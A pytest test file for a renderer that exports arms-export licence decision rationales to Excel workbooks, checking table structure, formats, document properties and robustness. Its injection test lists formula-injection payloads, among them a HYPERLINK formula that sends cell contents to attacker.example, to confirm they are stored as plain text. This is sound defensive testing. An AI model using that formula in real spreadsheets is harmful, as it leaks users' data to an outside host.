"""The analysts' rationale workbook: content, table structure, identity and safety."""

from __future__ import annotations

import dataclasses
import io
import re
import time
import zipfile
from datetime import date, datetime
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils.cell import range_boundaries
from openpyxl.worksheet.worksheet import Worksheet

from reports.rationale_model import CriterionView, GoodsView, PartyView, RationaleInput
from reports.rationale_xlsx import (
    RECORD_PROPERTY,
    SNAPSHOT_PROPERTY,
    read_identity,
    render_rationale_xlsx,
)
from tests.unit.rationale_sample import SIGNED_AT, sample_input

SHEETS = ["Summary", "Parties", "Goods", "Criteria", "Answers", "Findings evidence",
          "Evidence", "Hard-stop checks", "Conditions", "Signatures", "Audit"]
HEADERS = {
    "Parties": ["Role", "Name", "Country", "Kind", "Address"],
    "Goods": ["Control entry", "Description", "Quantity", "Unit", "Value", "Currency",
              "ATT category", "Quantity as signed", "Value as signed"],
    "Criteria": ["Criterion", "Title", "Citation", "Legal test", "Level", "Residual level",
                 "Test met", "Verdict", "Rationale", "Citations", "Mitigations"],
    "Answers": ["Criterion", "Question", "Answer", "Note"],
    "Findings evidence": ["Criterion", "Evidence", "Title", "Grade", "SHA-256", "Note"],
    "Evidence": ["Reference", "Title", "Publisher", "Source kind", "Published", "Grade",
                 "SHA-256", "Criteria", "Original stored"],
    "Hard-stop checks": ["Check", "Status", "Blocking", "Basis", "Detail"],
    "Conditions": ["Kind", "No.", "Text"],
    "Signatures": ["Kind", "Record ref", "Name", "Role", "Username", "Signed at (UTC)",
                   "Certificate SHA-256", "Note"],
    "Audit": ["Event ID", "Time (UTC)", "Actor", "Action", "Summary", "Hash"],
}
INJECTIONS = ['=HYPERLINK("http://attacker.example/?d="&A1,"Click")', "+1+2", "-2+3",
              "@SUM(A1:A9)", "#N/A"]
# A table name Excel accepts: not a cell reference (A1 or R1C1), letters/digits/_/. only.
TABLE_NAME = re.compile(r"^[A-Za-z_][A-Za-z0-9_.]{0,254}$")
CELL_REF = re.compile(r"^([A-Za-z]{1,3}\d+|[Rr]\d*[Cc]\d*|[RrCc])$")


def load(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def rows(ws: Worksheet) -> list[tuple[Any, ...]]:
    """The table's data rows (without the header), blank rows dropped."""
    return [r for r in ws.iter_rows(min_row=2, values_only=True)
            if any(v not in (None, "") for v in r)]


def table_rows(ws: Worksheet) -> list[tuple[Any, ...]]:
    (table,) = ws.tables.values()
    return [r for r in ws[table.ref][1:] if any(c.value is not None for c in r)]


def summary(ws: Worksheet) -> dict[str, Any]:
    return {r[0]: r[1] for r in ws.iter_rows(values_only=True) if r[0] is not None}


def check_structure(wb: Workbook, doc: RationaleInput) -> None:
    """What Excel would otherwise 'repair': table names, refs, headers and overlaps."""
    names: set[str] = set()
    for ws in wb.worksheets:
        ranges = []
        for table in ws.tables.values():
            assert TABLE_NAME.match(table.displayName)
            assert not CELL_REF.match(table.displayName)
            assert table.displayName.lower() not in names
            names.add(table.displayName.lower())
            assert table.name == table.displayName
            min_col, min_row, max_col, max_row = range_boundaries(table.ref)
            assert (min_col, min_row) == (1, 1)
            assert max_row == 1 + max(1, len(rows(ws)))       # header + data, exactly
            assert max_row >= 2                                # Excel needs a data row
            assert ws.max_column == max_col                    # nothing sticks out
            header = [c.value for c in ws[1]]
            assert all(isinstance(h, str) and h for h in header)
            assert len({h.lower() for h in header}) == len(header)
            assert [c.name for c in table.tableColumns] == header
            assert table.autoFilter is not None and table.autoFilter.ref == table.ref
            assert table.tableStyleInfo.name.startswith("TableStyle")
            for other in ranges:
                a, b, c, d = other
                assert max_col < a or c < min_col or max_row < b or d < min_row
            ranges.append((min_col, min_row, max_col, max_row))
            assert ws.freeze_panes == "A2"
            assert ws.print_title_rows == "$1:$1"
            assert ws.page_setup.orientation == "landscape"
            assert ws.sheet_properties.pageSetUpPr.fitToPage
            for col, h in enumerate(header, 1):
                letter = ws.cell(row=1, column=col).column_letter
                assert ws.column_dimensions[letter].width >= len(h) + 4
        assert doc.classification in ws.oddHeader.center.text
        assert doc.classification in ws.oddFooter.center.text
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert len(cell.value) <= 32767


@pytest.fixture(scope="module")
def doc() -> RationaleInput:
    return sample_input(12)


@pytest.fixture(scope="module")
def data(doc: RationaleInput) -> bytes:
    return render_rationale_xlsx(doc)


@pytest.fixture(scope="module")
def wb(data: bytes) -> Workbook:
    return load(data)


def test_sheets_headers_and_structure(wb: Workbook, doc: RationaleInput) -> None:
    assert wb.sheetnames == SHEETS
    for title, header in HEADERS.items():
        assert [c.value for c in wb[title][1]] == header, title
    check_structure(wb, doc)


def test_summary_shows_identity_outcome_and_hashes(wb: Workbook, doc: RationaleInput) -> None:
    ws = wb["Summary"]
    assert ws["A1"].value == "OFFICIAL-SENSITIVE"
    values = summary(ws)
    assert values["Record"] == doc.record_ref
    assert values["Case"] == doc.case_ref
    assert values["Authority"] == doc.authority
    assert values["Outcome"] == "Refuse"
    assert values["Headline"] == doc.headline
    assert values["Decision rationale"] == doc.decision_rationale
    assert values["Criteria cited"] == doc.criteria_cited[0]
    assert values["Framework SHA-256"] == doc.framework_sha256
    assert values["Framework version"] == doc.framework_version
    assert values["Snapshot SHA-256"] == doc.snapshot_sha256
    assert values["Audit chain head"] == doc.audit_head
    assert values["Evidence as of"] == datetime(2026, 11, 25)
    assert values["Signed at (UTC)"] == SIGNED_AT.replace(tzinfo=None)
    assert values["Generated at (UTC)"] == SIGNED_AT.replace(tzinfo=None)
    assert values["Countersignatures required"] == 1
    assert values["Countersigning rules"] == "Every refusal"
    assert values["Received"] == datetime(2026, 11, 2)
    assert "Olga Officer" in values["Signed by"]
    assert "DEMONSTRATION" not in str(list(ws.values))
    outcome = next(r[1] for r in ws.iter_rows() if r[0].value == "Outcome")
    assert outcome.font.b and outcome.font.color.rgb.endswith("9C0006")
    snapshot = next(r[1] for r in ws.iter_rows() if r[0].value == "Snapshot SHA-256")
    assert snapshot.font.name == "Consolas"
    label = next(r[0] for r in ws.iter_rows() if r[0].value == "Decision rationale")
    assert label.font.b
    assert next(r[1] for r in ws.iter_rows()
                if r[0].value == "Decision rationale").alignment.wrap_text


def test_demo_and_other_outcomes_are_marked() -> None:
    doc = dataclasses.replace(sample_input(2, outcome="approve"), is_demo=True)
    ws = load(render_rationale_xlsx(doc))["Summary"]
    assert "DEMONSTRATION" in ws["A2"].value
    assert ws.oddHeader.left.text == "DEMONSTRATION"
    outcome = next(r[1] for r in ws.iter_rows() if r[0].value == "Outcome")
    assert outcome.value == "Approve" and outcome.font.color.rgb.endswith("006100")
    refer = dataclasses.replace(sample_input(2), outcome="refer",
                                outcome_label="Refer to a supervisor")
    ws = load(render_rationale_xlsx(refer))["Summary"]
    outcome = next(r[1] for r in ws.iter_rows() if r[0].value == "Outcome")
    assert outcome.font.color.rgb.endswith("9C5700")


def test_parties_exporter_first_and_unicode(wb: Workbook, doc: RationaleInput) -> None:
    data = rows(wb["Parties"])
    assert data[0][:3] == ("Exporter", "Northbridge Munitions Ltd", "United Kingdom (GB)")
    assert [r[1] for r in data[1:]] == [p.name for p in doc.parties]
    assert "Министерство внутренних дел — Special Police Brigade" in [r[1] for r in data]


def test_goods_quantities_and_values_are_numbers(wb: Workbook) -> None:
    ws = wb["Goods"]
    data = rows(ws)
    assert data[0] == ("ML1.a", "Semi-automatic rifles, 5.56 mm", 250, "units", 412500,
                       "GBP", "VII. Small arms", "250", "412500.00")
    assert data[1][2] == 100000 and data[1][4] == 38000
    assert ws["E2"].data_type == "n" and ws["E2"].number_format == "#,##0.00"
    assert ws["C2"].data_type == "n" and ws["C2"].number_format == "#,##0"


def test_goods_keep_exact_text_when_float_would_round() -> None:
    goods = (GoodsView("ML1", "Precise", "12.345", "kg", "12345678901234567.89", "EUR"),
             GoodsView("ML2", "Odd", "about 10", "units", "NaN", "EUR"))
    ws = load(render_rationale_xlsx(dataclasses.replace(sample_input(1), goods=goods)))["Goods"]
    first, second = rows(ws)
    assert first[2] == pytest.approx(12.345) and ws["C2"].number_format == "#,##0.000"
    assert isinstance(first[4], float) and first[8] == "12345678901234567.89"
    assert second[2] == "about 10" and second[4] == "NaN"


def test_criteria_one_row_each(wb: Workbook, doc: RationaleInput) -> None:
    ws = wb["Criteria"]
    data = rows(ws)
    assert [r[0] for r in data] == [c.id for c in doc.criteria]
    ihrl = data[1]
    assert ihrl[1] == "Serious violations of international human rights law"
    assert ihrl[4:8] == ("Substantial", "Substantial", "Yes", "Met: refusal required")
    assert ihrl[9] == len(doc.criteria[1].citations)
    assert ihrl[10] == "End-use monitoring visit offered by the importer"
    assert data[3][6] is None and data[3][7] == "Not assessed"
    assert ws["I3"].alignment.wrap_text
    assert ws.row_dimensions[3].height >= 15 * 8        # the long rationale shows whole
    answers = rows(wb["Answers"])
    assert len(answers) == 2 and answers[0][0] == "ihrl" and answers[0][2] == "Yes"


def test_evidence_and_citations(wb: Workbook, doc: RationaleInput) -> None:
    ws = wb["Evidence"]
    data = rows(ws)
    assert len(data) == len(doc.evidence)
    for row, item in zip(data, doc.evidence, strict=True):
        assert row[0] == item.reference and row[6] == item.content_sha256
        assert row[4] == datetime.combine(date.fromisoformat(item.published_on),
                                          datetime.min.time())
        assert row[7] == ", ".join(item.criteria)
        assert row[8] == ("Yes" if item.has_original else "No")
    assert ws["G2"].font.name == "Consolas"
    assert ws["E2"].number_format == "yyyy-mm-dd"
    cited = rows(wb["Findings evidence"])
    expected = [(c.id, e.reference, e.content_sha256) for c in doc.criteria
                for e in c.citations]
    assert [(r[0], r[1], r[4]) for r in cited] == expected


def test_checks_conditions_signatures_audit(wb: Workbook, doc: RationaleInput) -> None:
    checks = rows(wb["Hard-stop checks"])
    assert [r[0] for r in checks] == [c.title for c in doc.checks]
    assert checks[0][1:3] == ("Clear", "No")
    notes = rows(wb["Conditions"])
    assert notes == [("Mitigation", 1, doc.mitigations[0]),
                     ("Past incident", 1, doc.past_incidents[0])]
    (sig,) = rows(wb["Signatures"])
    assert sig[:5] == ("Decision", "GR-2026-00042/1", "Olga Officer", "Officer", "olga")
    assert sig[5] == SIGNED_AT.replace(tzinfo=None)
    assert sig[6] == doc.signatures[0].certificate_sha256
    audit = rows(wb["Audit"])
    assert [r[3] for r in audit] == [e.action for e in doc.audit_events]
    assert audit[0][0] == 100 and audit[-1][5] == doc.audit_events[-1].hash
    assert isinstance(audit[0][1], datetime)


def test_approval_shows_its_conditions() -> None:
    doc = sample_input(3, outcome="approve-with-conditions")
    wb = load(render_rationale_xlsx(doc))
    conditions = [r for r in rows(wb["Conditions"]) if r[0] == "Condition"]
    assert [(r[1], r[2]) for r in conditions] == list(enumerate(doc.conditions, 1))
    assert summary(wb["Summary"])["Conditions"] == (
        "1. No re-export without prior written consent.\n"
        "2. Delivery verification certificate within 90 days of shipment.")
    check_structure(wb, doc)


def test_empty_lists_still_make_valid_tables() -> None:
    doc = dataclasses.replace(
        sample_input(0), conditions=(), mitigations=(), past_incidents=(), evidence=(),
        goods=(), checks=(), signatures=(), audit_events=(),
        criteria=tuple(dataclasses.replace(c, citations=(), answers=())
                       for c in sample_input(0).criteria))
    wb = load(render_rationale_xlsx(doc))
    check_structure(wb, doc)
    for title in ("Evidence", "Findings evidence", "Conditions", "Goods", "Signatures",
                  "Audit", "Hard-stop checks", "Answers"):
        ws = wb[title]
        (table,) = ws.tables.values()
        assert table.ref.endswith("2") and table_rows(ws) == [], title
        assert "No " in ws["A4"].value, title
    assert summary(wb["Summary"])["Signed by"] == "Not signed"


def test_custom_properties_and_core_properties(wb: Workbook, doc: RationaleInput) -> None:
    assert wb.custom_doc_props[SNAPSHOT_PROPERTY].value == doc.snapshot_sha256
    assert wb.custom_doc_props[RECORD_PROPERTY].value == doc.record_ref
    props = wb.properties
    assert props.creator == "Golden Rule"
    assert doc.record_ref in props.title and doc.record_ref in props.keywords
    assert props.subject == "GR-2026-00042/1: Refuse"
    assert props.created == props.modified == SIGNED_AT.replace(tzinfo=None)


def test_same_input_same_bytes(data: bytes, doc: RationaleInput) -> None:
    assert render_rationale_xlsx(doc) == data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {i.date_time for i in archive.infolist()} == {(2026, 11, 26, 14, 5, 12)}


def test_read_identity_round_trip(data: bytes, doc: RationaleInput) -> None:
    assert read_identity(data) == (doc.record_ref, doc.snapshot_sha256)


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def test_read_identity_none_without_properties(data: bytes) -> None:
    assert read_identity(b"") is None
    assert read_identity(b"not a workbook at all \x00\xff") is None
    assert read_identity(data[: len(data) // 2]) is None
    assert read_identity(_zip({"hello.txt": b"hello"})) is None
    assert read_identity(_zip({"docProps/custom.xml": b"<not xml"})) is None
    plain = io.BytesIO()
    Workbook().save(plain)
    assert read_identity(plain.getvalue()) is None
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {i.filename: archive.read(i) for i in archive.infolist()}
    doubled = files["docProps/custom.xml"].replace(
        b"</Properties>", b'<property name="GoldenRule.Record" fmtid="{D5CDD505-2E9C-101B-'
        b'9397-08002B2CF9AE}" pid="9"><vt:lpwstr xmlns:vt="http://schemas.openxmlformats.org'
        b'/officeDocument/2006/docPropsVTypes">GR-FAKE</vt:lpwstr></property></Properties>')
    assert read_identity(_zip({**files, "docProps/custom.xml": doubled})) is None


def test_formula_injection_is_stored_as_text() -> None:
    base = sample_input(1)
    parties = tuple(PartyView("End user", text, "Ruritania (RU)") for text in INJECTIONS)
    doc = dataclasses.replace(base, parties=parties, headline=INJECTIONS[0],
                              criteria=(CriterionView(id="-x", title="@t", citation="+c",
                                                      legal_test="=1+1", level=""),))
    data = render_rationale_xlsx(doc)
    wb = load(data)
    names = [c for c in wb["Parties"]["B"][2:]]
    assert [c.value for c in names] == INJECTIONS
    for cell in names:
        assert cell.data_type == "s" and cell.quotePrefix
    assert summary(wb["Summary"])["Headline"] == INJECTIONS[0]
    assert rows(wb["Criteria"])[0][:4] == ("-x", "@t", "+c", "=1+1")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    check_structure(wb, doc)


def test_control_characters_and_huge_text_do_not_break_the_file() -> None:
    base = sample_input(3)
    evidence = (dataclasses.replace(base.evidence[0], published_on="2021"),
                dataclasses.replace(base.evidence[1], published_on="1850-01-01"),
                dataclasses.replace(base.evidence[2], published_on="2021-13-45"))
    doc = dataclasses.replace(base, decision_rationale="a\x00b\x1fc" + "x" * 40000,
                              classification="SECRET & UK EYES", evidence=evidence)
    wb = load(render_rationale_xlsx(doc))
    assert [r[4] for r in rows(wb["Evidence"])] == ["2021", "1850-01-01", "2021-13-45"]
    text = summary(wb["Summary"])["Decision rationale"]
    assert text.startswith("a\ufffdb\ufffdc") and len(text) == 32767
    assert text.endswith("[truncated: the full text is in the signed PDF]")
    assert wb["Audit"].oddHeader.center.text == "SECRET && UK EYES"


def test_two_hundred_items_render_quickly() -> None:
    doc = sample_input(200)
    start = time.perf_counter()
    data = render_rationale_xlsx(doc)
    elapsed = time.perf_counter() - start
    assert len(rows(load(data)["Evidence"])) == 200
    assert elapsed < 0.7 * 2     # measured ~0.13 s; slack for a loaded CI machine
